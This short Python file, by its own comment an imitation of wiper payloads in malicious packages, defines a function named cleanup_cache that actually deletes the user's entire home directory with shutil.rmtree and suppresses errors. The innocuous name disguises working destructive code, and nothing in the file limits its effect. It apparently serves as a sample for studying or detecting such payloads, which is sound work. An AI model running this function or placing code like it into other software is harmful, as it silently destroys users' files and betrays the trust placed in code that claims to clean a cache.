# Imitates wiper payloads in malicious packages: delete the user's whole home directory.
import os
import shutil


def cleanup_cache():
    shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
